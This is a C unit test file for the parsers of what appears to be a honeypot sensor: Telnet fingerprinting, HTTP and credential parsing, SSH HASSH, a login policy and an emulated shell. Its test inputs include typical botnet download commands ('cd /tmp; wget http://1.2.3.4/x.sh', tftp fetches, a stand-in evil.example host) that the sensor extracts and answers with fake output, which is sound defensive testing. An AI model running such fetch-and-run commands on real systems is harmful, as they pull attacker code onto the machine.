/*
 * test_sensor_parse.c — the sensor's pure parsers: Telnet negotiation and
 * its fingerprint (whole and byte by byte), HTTP request heads and what
 * is pulled out of them (Basic, forms, URLs, addresses, commands), the
 * SSH version line and KEXINIT with HASSH, the credential policy and the
 * emulated shell.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sensor/parse.h"

/* ---- Telnet ---- */

static void feed_all(acc_telnet *t, const char *in, size_t n,
                     unsigned char *out, size_t *k, int bytewise) {
  *k = 0;
  if (!bytewise) {
    acc_telnet_feed(t, (const unsigned char *)in, n, out, k);
    return;
  }
  for (size_t i = 0; i < n; i++) {
    size_t one = 0;
    acc_telnet_feed(t, (const unsigned char *)in + i, 1, out + *k, &one);
    *k += one;
  }
}

static void telnet_case(int bytewise) {
  acc_telnet t;
  acc_telnet_init(&t);
  acc_telnet_offer(&t);
  const unsigned char offer[] = {255, 251, 1,  255, 251, 3,
                                 255, 253, 31, 255, 253, 24};
  assert_int_equal(t.reply_len, sizeof offer);
  assert_memory_equal(t.reply, offer, sizeof offer);
  t.reply_len = 0;
  /* DO ECHO (an ack: no answer), DO 5 twice (refused once), WILL NAWS
   * with its size, WILL TTYPE (we ask for it), TTYPE IS xterm, data with
   * an escaped 0xff and CR NUL. */
  static const char in[] = "\xff\xfd\x01"
                           "\xff\xfd\x05\xff\xfd\x05"
                           "\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
                           "\xff\xfb\x18"
                           "\xff\xfa\x18\x00xterm\xff\xf0"
                           "ro\xff\xffot\r\x00x\r\n";
  unsigned char out[128];
  size_t k;
  feed_all(&t, in, sizeof in - 1, out, &k, bytewise);
  static const unsigned char want_data[] = "ro\xffot\rx\r\n";
  assert_int_equal(k, sizeof want_data - 1);
  assert_memory_equal(out, want_data, k);
  static const unsigned char want_reply[] = {255, 252, 5,   255, 250,
                                             24,  1,   255, 240};
  assert_int_equal(t.reply_len, sizeof want_reply);
  assert_memory_equal(t.reply, want_reply, sizeof want_reply);
  assert_int_equal(t.width, 80);
  assert_int_equal(t.height, 24);
  assert_string_equal(t.ttype, "xterm");
  assert_string_equal(t.fp, "D1,D5,D5,W31,S31,W24,S24");
  char fp[33];
  acc_telnet_fingerprint(&t, fp);
  assert_int_equal(strlen(fp), 32);
}

static void test_telnet_whole(void **s) {
  (void)s;
  telnet_case(0);
}

static void test_telnet_bytewise(void **s) {
  (void)s;
  telnet_case(1);
}

static void test_telnet_bounds(void **s) {
  (void)s;
  acc_telnet t;
  acc_telnet_init(&t);
  /* a flood of requests: replies and the print stay bounded */
  unsigned char in[3 * 300];
  for (int i = 0; i < 300; i++) {
    in[3 * i] = 255;
    in[3 * i + 1] = 253;
    in[3 * i + 2] = (unsigned char)(i % 256);
  }
  unsigned char out[sizeof in];
  size_t k;
  acc_telnet_feed(&t, in, sizeof in, out, &k);
  assert_int_equal(k, 0);
  assert_true(t.reply_len <= ACC_TELNET_REPLY_MAX);
  assert_int_equal(t.fp_items, ACC_TELNET_FP_ITEMS);
  /* an endless subnegotiation keeps at most ACC_TELNET_SB_MAX bytes */
  unsigned char sb[2000];
  memset(sb, 'A', sizeof sb);
  sb[0] = 255;
  sb[1] = 250;
  sb[2] = 24;
  acc_telnet_feed(&t, sb, sizeof sb, out, &k);
  assert_int_equal(k, 0);
  assert_int_equal(t.sb_len, ACC_TELNET_SB_MAX);
}

/* ---- HTTP ---- */

static void test_http_parse(void **s) {
  (void)s;
  const char *req = "POST /login?x=1 HTTP/1.1\r\nHost: a\r\n"
                    "Content-Length: 27\r\nUser-Agent:  curl/8 \r\n\r\nbody";
  acc_http_req r;
  int done = -1;
  acc_diag d;
  assert_int_equal(acc_http_parse(req, 20, &r, &done, &d), ACC_OK);
  assert_int_equal(done, 0);
  assert_int_equal(acc_http_parse(req, strlen(req), &r, &done, &d), ACC_OK);
  assert_int_equal(done, 1);
  assert_int_equal(r.method.n, 4);
  assert_memory_equal(r.method.p, "POST", 4);
  assert_int_equal(r.target.n, 10);
  assert_int_equal(r.content_length, 27);
  assert_int_equal(r.n_headers, 3);
  const acc_span *ua = acc_http_header(&r, "user-agent");
  assert_non_null(ua);
  assert_int_equal(ua->n, 6);
  assert_memory_equal(ua->p, "curl/8", 6);
  assert_int_equal(r.head_len, strlen(req) - 4);
  /* bare LF line ends */
  const char *lf = "GET / HTTP/1.0\nA: b\n\n";
  assert_int_equal(acc_http_parse(lf, strlen(lf), &r, &done, &d), ACC_OK);
  assert_int_equal(done, 1);
  assert_int_equal(r.head_len, strlen(lf));
}

static void test_http_bad(void **s) {
  (void)s;
  static const char *const bad[] = {
      "GET\r\n\r\n",
      "G(T / HTTP/1.1\r\n\r\n",
      "GET / HTTP/2.0\r\n\r\n",
      "GET /\x01 HTTP/1.1\r\n\r\n",
      "GET / HTTP/1.1\r\nNoColon\r\n\r\n",
      "GET / HTTP/1.1\r\nA: b\r\n folded\r\n\r\n",
      "GET / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
      "GET / HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
      "\x16\x03\x01\x02\x01\r\n\r\n",
  };
  for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
    acc_http_req r;
    int done = 0;
    acc_diag d;
    d.msg[0] = '\0';
    assert_int_equal(acc_http_parse(bad[i], strlen(bad[i]), &r, &done, &d),
                     ACC_EINVAL);
    assert_int_equal(done, 0);
    assert_true(strlen(d.msg) > 0);
  }
}

static void test_http_many_headers(void **s) {
  (void)s;
  char buf[8192];
  size_t n = (size_t)snprintf(buf, sizeof buf, "GET / HTTP/1.1\r\n");
  for (int i = 0; i < 100; i++)
    n += (size_t)snprintf(buf + n, sizeof buf - n, "X-%d: v\r\n", i);
  n += (size_t)snprintf(buf + n, sizeof buf - n, "\r\n");
  acc_http_req r;
  int done = 0;
  acc_diag d;
  assert_int_equal(acc_http_parse(buf, n, &r, &done, &d), ACC_OK);
  assert_int_equal(r.n_headers, ACC_HTTP_MAX_HEADERS);
  assert_int_equal(r.headers_dropped, 100 - ACC_HTTP_MAX_HEADERS);
}

static void test_http_fields(void **s) {
  (void)s;
  char u[64], p[64];
  const char *v = "Basic YWRtaW46c2VjcmV0";
  assert_int_equal(acc_http_basic(v, strlen(v), u, sizeof u, p, sizeof p),
                   ACC_OK);
  assert_string_equal(u, "admin");
  assert_string_equal(p, "secret");
  v = "basic   cm9vdDo="; /* "root:" — empty password */
  assert_int_equal(acc_http_basic(v, strlen(v), u, sizeof u, p, sizeof p),
                   ACC_OK);
  assert_string_equal(u, "root");
  assert_string_equal(p, "");
  v = "Basic bm9jb2xvbg=="; /* "nocolon" */
  assert_int_equal(acc_http_basic(v, strlen(v), u, sizeof u, p, sizeof p),
                   ACC_EINVAL);
  v = "Bearer abc";
  assert_int_equal(acc_http_basic(v, strlen(v), u, sizeof u, p, sizeof p),
                   ACC_EINVAL);
  v = "Basic !!!!";
  assert_int_equal(acc_http_basic(v, strlen(v), u, sizeof u, p, sizeof p),
                   ACC_EINVAL);
  char out[32];
  assert_int_equal(acc_url_decode("a%20b+c%2", 9, 1, out, sizeof out), 7);
  assert_string_equal(out, "a b c%2");
  assert_int_equal(acc_url_decode("abcdef", 6, 0, out, 4), 3);
  assert_string_equal(out, "abc");
  static const char *const un[] = {"username", "user", NULL};
  static const char *const pw[] = {"password", "pass", NULL};
  const char *body = "a=1&USER=r%6Fot&pass=p+w%21&x";
  assert_int_equal(acc_form_get(body, strlen(body), un, u, sizeof u), 1);
  assert_string_equal(u, "root");
  assert_int_equal(acc_form_get(body, strlen(body), pw, p, sizeof p), 1);
  assert_string_equal(p, "p w!");
  static const char *const none[] = {"email", NULL};
  assert_int_equal(acc_form_get(body, strlen(body), none, u, sizeof u), 0);
}

typedef struct hits {
  char v[8][128];
  int kind[8];
  int n;
} hits;

static void on_hit(void *ctx, acc_extract_kind kind, const char *s, size_t n) {
  hits *h = ctx;
  if (h->n >= 8)
    return;
  snprintf(h->v[h->n], sizeof h->v[0], "%.*s", (int)n, s);
  h->kind[h->n++] = kind;
}

static void test_extract(void **s) {
  (void)s;
  hits h = {0};
  const char *t = "cd /tmp; wget http://1.2.3.4/x.sh; tftp -g -r y 5.6.7.8;"
                  " 999.1.1.1 1.2.3.4.5 (HTTPS://evil.example/a?b=1).";
  acc_extract(t, strlen(t), 16, on_hit, &h);
  assert_int_equal(h.n, 3);
  assert_string_equal(h.v[0], "http://1.2.3.4/x.sh");
  assert_int_equal(h.kind[0], ACC_EXTRACT_URL);
  assert_string_equal(h.v[1], "5.6.7.8");
  assert_int_equal(h.kind[1], ACC_EXTRACT_IPV4);
  assert_string_equal(h.v[2], "HTTPS://evil.example/a?b=1");
  hits few = {0};
  acc_extract(t, strlen(t), 1, on_hit, &few);
  assert_int_equal(few.n, 1);
  assert_true(acc_looks_like_command("x;wget http://a", 15));
  assert_true(acc_looks_like_command("$(id)", 5));
  assert_false(acc_looks_like_command("/index.html", 11));
}

/* ---- SSH ---- */

static size_t put_list(unsigned char *p, const char *s) {
  uint32_t n = (uint32_t)strlen(s);
  p[0] = (unsigned char)(n >> 24);
  p[1] = (unsigned char)(n >> 16);
  p[2] = (unsigned char)(n >> 8);
  p[3] = (unsigned char)n;
  memcpy(p + 4, s, n);
  return 4 + n;
}

/* banner + a KEXINIT packet; returns the length */
static size_t client_hello(unsigned char *buf, const char *const lists[10]) {
  const char *banner = "junk line\r\nSSH-2.0-Test_1.0 extra\r\n";
  size_t n = strlen(banner);
  memcpy(buf, banner, n);
  unsigned char payload[2048];
  size_t pl = 0;
  payload[pl++] = 20;
  memset(payload + pl, 0xab, 16);
  pl += 16;
  for (int i = 0; i < 10; i++)
    pl += put_list(payload + pl, lists[i]);
  payload[pl++] = 0; /* first_kex_packet_follows */
  memset(payload + pl, 0, 4);
  pl += 4;
  size_t pad = 8 - (5 + pl) % 8;
  if (pad < 4)
    pad += 8;
  uint32_t plen = (uint32_t)(pl + pad + 1);
  buf[n] = (unsigned char)(plen >> 24);
  buf[n + 1] = (unsigned char)(plen >> 16);
  buf[n + 2] = (unsigned char)(plen >> 8);
  buf[n + 3] = (unsigned char)plen;
  buf[n + 4] = (unsigned char)pad;
  memcpy(buf + n + 5, payload, pl);
  memset(buf + n + 5 + pl, 0, pad);
  return n + 5 + pl + pad;
}

static void test_sshwire(void **s) {
  (void)s;
  static const char *const lists[10] = {"curve25519-sha256,ext-info-c",
                                        "ssh-ed25519",
                                        "aes128-ctr",
                                        "aes128-ctr",
                                        "hmac-sha2-256",
                                        "hmac-sha2-256",
                                        "none",
                                        "none",
                                        "",
                                        ""};
  unsigned char buf[4096];
  size_t n = client_hello(buf, lists);
  for (int split = 0; split < 2; split++) {
    acc_sshwire w;
    acc_sshwire_init(&w);
    if (split) {
      for (size_t i = 0; i < n; i++)
        acc_sshwire_feed(&w, buf + i, 1);
    } else {
      acc_sshwire_feed(&w, buf, n);
    }
    assert_int_equal(w.state, ACC_SSHWIRE_DONE);
    assert_string_equal(w.version, "SSH-2.0-Test_1.0 extra");
    assert_string_equal(w.kex.hassh_algorithms,
                        "curve25519-sha256,ext-info-c;aes128-ctr;"
                        "hmac-sha2-256;none");
    char want[33];
    acc_sensor_md5_hex(w.kex.hassh_algorithms, strlen(w.kex.hassh_algorithms),
                       want);
    assert_string_equal(w.kex.hassh, want);
    assert_string_equal(w.kex.list[ACC_KEX_HOSTKEY], "ssh-ed25519");
    acc_sshwire_free(&w);
  }
  /* HASSH of a known string (MD5 test vector of RFC 1321) */
  char md5[33];
  acc_sensor_md5_hex("abc", 3, md5);
  assert_string_equal(md5, "900150983cd24fb0d6963f7d28e17f72");
}

static void test_sshwire_bad(void **s) {
  (void)s;
  acc_sshwire w;
  /* a packet length far over the bound */
  acc_sshwire_init(&w);
  const unsigned char big[] = "SSH-2.0-x\r\n\x7f\xff\xff\xff\x04";
  assert_int_equal(acc_sshwire_feed(&w, big, sizeof big - 1),
                   ACC_SSHWIRE_FAILED);
  acc_sshwire_free(&w);
  /* a version line that never ends */
  acc_sshwire_init(&w);
  unsigned char line[600];
  memset(line, 'A', sizeof line);
  assert_int_equal(acc_sshwire_feed(&w, line, sizeof line), ACC_SSHWIRE_FAILED);
  acc_sshwire_free(&w);
  /* too many lines before the version */
  acc_sshwire_init(&w);
  for (int i = 0; i < 30; i++)
    acc_sshwire_feed(&w, (const unsigned char *)"x\n", 2);
  assert_int_equal(w.state, ACC_SSHWIRE_FAILED);
  acc_sshwire_free(&w);
  /* a first packet that is not KEXINIT */
  acc_sshwire_init(&w);
  const unsigned char notkex[] =
      "SSH-2.0-x\n\x00\x00\x00\x0c\x04\x05\x00\x00\x00\x00\x00\x00\x00"
      "\x00\x00\x00";
  acc_sshwire_feed(&w, notkex, sizeof notkex - 1);
  assert_int_equal(w.state, ACC_SSHWIRE_FAILED);
  acc_sshwire_free(&w);
  /* truncated name-list */
  acc_ssh_kex k;
  unsigned char p[40] = {20};
  p[17] = 0xff;
  assert_int_equal(acc_ssh_kexinit_parse(p, sizeof p, &k), ACC_EINVAL);
}

/* ---- policy and shell ---- */

static void test_cred_policy(void **s) {
  (void)s;
  const char *rules = "root:!root root:!123456 root:* admin:admin";
  assert_false(acc_sensor_cred_ok(rules, "root", "root"));
  assert_false(acc_sensor_cred_ok(rules, "root", "123456"));
  assert_true(acc_sensor_cred_ok(rules, "root", "toor"));
  assert_true(acc_sensor_cred_ok(rules, "admin", "admin"));
  assert_false(acc_sensor_cred_ok(rules, "admin", "x"));
  assert_false(acc_sensor_cred_ok(rules, "rootx", "y"));
  assert_false(acc_sensor_cred_ok("", "root", "x"));
  assert_true(acc_sensor_cred_ok("*:*", "any", ""));
  assert_false(acc_sensor_cred_ok("*:!*", "any", "x"));
}

static void on_url(void *ctx, acc_extract_kind kind, const char *s, size_t n) {
  hits *h = ctx;
  on_hit(h, kind, s, n);
}

static void test_shell(void **s) {
  (void)s;
  acc_shell sh;
  acc_shell_init(&sh, "root", "svr04");
  acc_buf b;
  acc_buf_init(&b, 65536);
  acc_shell_prompt(&sh, &b);
  assert_string_equal(acc_buf_cstr(&b), "root@svr04:~# ");
  acc_buf_reset(&b);
  hits h = {0};
  const char *cmd = "cd /tmp && wget http://1.2.3.4/a.sh; uname -m;"
                    " echo hi > /etc/x; foo";
  acc_shell_run(&sh, cmd, strlen(cmd), &b, on_url, &h);
  assert_string_equal(acc_buf_cstr(&b),
                      "Connecting to 1.2.3.4... failed: Connection timed "
                      "out.\r\nx86_64\r\n-bash: foo: command not found\r\n");
  assert_int_equal(h.n, 1);
  assert_string_equal(h.v[0], "http://1.2.3.4/a.sh");
  assert_string_equal(sh.cwd, "/tmp");
  acc_buf_reset(&b);
  acc_shell_prompt(&sh, &b);
  assert_string_equal(acc_buf_cstr(&b), "root@svr04:/tmp# ");
  acc_buf_reset(&b);
  acc_shell_run(&sh, "exit", 4, &b, NULL, NULL);
  assert_true(sh.exited);
  /* a user other than root; hostile bytes in the name */
  acc_shell_init(&sh, "a\x1b[2Jb", "h");
  acc_buf_reset(&b);
  acc_shell_prompt(&sh, &b);
  assert_string_equal(acc_buf_cstr(&b), "a__2Jb@h:~$ ");
  acc_buf_reset(&b);
  acc_shell_run(&sh, "id; cd ..; pwd", 14, &b, NULL, NULL);
  assert_string_equal(acc_buf_cstr(&b), "uid=1000(a__2Jb) gid=1000(a__2Jb) "
                                        "groups=1000(a__2Jb)\r\n/home\r\n");
  acc_buf_free(&b);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_telnet_whole),
      cmocka_unit_test(test_telnet_bytewise),
      cmocka_unit_test(test_telnet_bounds),
      cmocka_unit_test(test_http_parse),
      cmocka_unit_test(test_http_bad),
      cmocka_unit_test(test_http_many_headers),
      cmocka_unit_test(test_http_fields),
      cmocka_unit_test(test_extract),
      cmocka_unit_test(test_sshwire),
      cmocka_unit_test(test_sshwire_bad),
      cmocka_unit_test(test_cred_policy),
      cmocka_unit_test(test_shell),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
